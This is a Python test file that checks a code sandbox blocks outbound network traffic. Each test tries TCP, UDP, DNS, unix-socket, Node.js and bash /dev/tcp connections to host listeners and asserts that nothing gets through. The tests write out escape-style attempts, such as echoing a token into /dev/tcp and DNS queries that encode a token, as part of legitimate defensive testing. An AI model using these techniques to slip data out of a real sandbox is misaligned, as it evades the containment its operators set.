"""Attacks on the network: TCP, UDP, DNS and unix sockets towards listeners on the host.

Each listener first proves it can hear the host (see ``Listener.start``); after the
attack it must have heard nothing at all.
"""

from __future__ import annotations

import json
import shutil

import pytest

from tests.sandbox import require_sandbox
from tests.security._helpers import assert_ran, execute, javascript, python, refused

pytestmark = require_sandbox()

needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")


def test_tcp_to_a_host_listener_is_refused(athena, tcp_listener, token) -> None:
    host, port = tcp_listener.address
    program = python("""
        import socket
        def connect(address):
            s = socket.create_connection(address, timeout=2)
            s.sendall(ARGS["token"].encode())
            return "connected"
        {
            "loopback": attempt(connect, (ARGS["host"], ARGS["port"])),
            "localhost": attempt(connect, ("localhost", ARGS["port"])),
            "ipv6": attempt(connect, ("::1", ARGS["port"])),
            "any": attempt(connect, ("0.0.0.0", ARGS["port"])),
            "internet": attempt(connect, ("1.1.1.1", 443)),
            "interfaces": socket.if_nameindex(),
        }
    """, host=host, port=port, token=token)
    value = assert_ran(execute(athena, program))
    assert value.pop("interfaces") == [[1, "lo"]]  # the sandbox's own, empty loopback
    assert all(refused(v) for v in value.values()), value
    assert tcp_listener.heard_nothing()


def test_udp_to_a_host_listener_never_arrives(athena, udp_listener, token) -> None:
    host, port = udp_listener.address
    program = python("""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sent = [attempt(s.sendto, ARGS["token"].encode(), (ARGS["host"], ARGS["port"]))
                for _ in range(5)]
        b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        b.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sent.append(attempt(b.sendto, b"x", ("255.255.255.255", ARGS["port"])))
        sent
    """, host=host, port=port, token=token)
    value = assert_ran(execute(athena, program))
    # sendto on the sandbox's own loopback "succeeds"; nothing leaves the namespace.
    assert udp_listener.heard_nothing(), value


def test_dns_lookups_and_raw_queries_go_nowhere(athena, udp_listener, token) -> None:
    host, port = udp_listener.address
    query = bytes.fromhex("abcd01000001000000000000") + b"".join(
        bytes([len(label)]) + label.encode() for label in (token, "example", "com")) + \
        bytes.fromhex("0000010001")
    program = python("""
        import socket
        def raw(address):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(1)
            s.sendto(bytes.fromhex(ARGS["query"]), address)
            return s.recv(512)
        {
            "getaddrinfo": attempt(socket.getaddrinfo, ARGS["token"] + ".example.com", 80),
            "gethostbyname": attempt(socket.gethostbyname, "example.com"),
            "resolv_conf": attempt(read, "/etc/resolv.conf"),
            "hosts": attempt(read, "/etc/hosts"),
            "fake_dns": attempt(raw, (ARGS["host"], ARGS["port"])),
            "public_dns": attempt(raw, ("8.8.8.8", 53)),
        }
    """, host=host, port=port, token=token, query=query.hex())
    value = assert_ran(execute(athena, program))
    assert all(refused(v) for v in value.values()), value
    assert udp_listener.heard_nothing()


def test_unix_socket_file_on_the_host_is_unreachable(athena, unix_listener, token) -> None:
    program = python("""
        import socket
        def connect(path):
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)
            s.sendall(ARGS["token"].encode())
            return "connected"
        {"path": attempt(connect, ARGS["path"]),
         "proc_root": attempt(connect, "/proc/1/root" + ARGS["path"])}
    """, path=unix_listener.address, token=token)
    value = assert_ran(execute(athena, program))
    assert all(refused(v) for v in value.values()), value
    assert unix_listener.heard_nothing()


def test_unix_socket_in_a_read_only_mount_is_unreachable(athena, unix_listener,
                                                         token) -> None:
    """A read-only mount shares files, not a channel to a host daemon listening there."""
    directory = unix_listener.address.rsplit("/", 1)[0]
    program = python("""
        import os, socket
        def connect(path):
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)
            s.sendall(ARGS["token"].encode())
            return "connected"
        {"listing": os.listdir(ARGS["dir"]), "connect": attempt(connect, ARGS["path"])}
    """, path=unix_listener.address, dir=directory, token=token)
    value = assert_ran(execute(athena, program, policy={"read_paths": [directory]}))
    assert value["listing"] == ["agent.sock"]  # control: the directory is mounted
    assert refused(value["connect"]), value
    assert unix_listener.heard_nothing(), "the sandbox talked to a host unix socket"


def test_abstract_unix_socket_on_the_host_is_unreachable(athena, abstract_listener,
                                                         token) -> None:
    program = python("""
        import socket
        def connect(name):
            s = socket.socket(socket.AF_UNIX)
            s.connect(name)
            s.sendall(ARGS["token"].encode())
            return "connected"
        def datagram(name):
            return socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", name)
        {"stream": attempt(connect, ARGS["name"]), "dgram": attempt(datagram, ARGS["name"]),
         "abstract_table": attempt(read, "/proc/net/unix")}
    """, name=abstract_listener.address, token=token)
    value = assert_ran(execute(athena, program))
    assert refused(value["stream"]) and refused(value["dgram"]), value
    assert abstract_listener.address[1:] not in json.dumps(value["abstract_table"])
    assert abstract_listener.heard_nothing()


@needs_node
def test_javascript_cannot_reach_host_listeners(athena, tcp_listener, udp_listener,
                                                token) -> None:
    program = javascript("""
        import net from "node:net";
        import dgram from "node:dgram";
        const tcp = await new Promise((resolve) => {
          const s = net.connect(ARGS.tcp, "127.0.0.1");
          s.on("connect", () => { s.write(ARGS.token); s.end(); resolve("connected"); });
          s.on("error", (e) => resolve(e.code));
        });
        const udp = await new Promise((resolve) => {
          const s = dgram.createSocket("udp4");
          s.send(ARGS.token, ARGS.udp, "127.0.0.1",
                 (e) => { s.close(); resolve(e ? e.code : "sent"); });
        });
        const dns = await import("node:dns").then((m) => m.promises.lookup("example.com"))
          .then(() => "resolved", (e) => e.code);
        console.log(JSON.stringify({ tcp, udp, dns }));
    """, tcp=tcp_listener.address[1], udp=udp_listener.address[1], token=token)
    result = execute(athena, program, language="javascript")
    value = json.loads(assert_ran(result) or result.stdout)
    assert value["tcp"] == "ECONNREFUSED" and value["dns"] != "resolved", value
    assert tcp_listener.heard_nothing() and udp_listener.heard_nothing()


def test_bash_dev_tcp_and_udp_go_nowhere(athena, tcp_listener, udp_listener, token) -> None:
    program = f"""
echo {token} > /dev/tcp/127.0.0.1/{tcp_listener.address[1]} && echo tcp-sent || echo tcp-refused
echo {token} > /dev/udp/127.0.0.1/{udp_listener.address[1]} && echo udp-sent || echo udp-local
(exec 3<>/dev/tcp/1.1.1.1/80) 2>/dev/null && echo internet || echo no-internet
"""
    result = execute(athena, program, language="bash")
    assert result.status == "ok", (result.error, result.stderr)
    lines = result.stdout.split()
    assert "tcp-refused" in lines and "no-internet" in lines, result.stdout
    assert tcp_listener.heard_nothing() and udp_listener.heard_nothing()
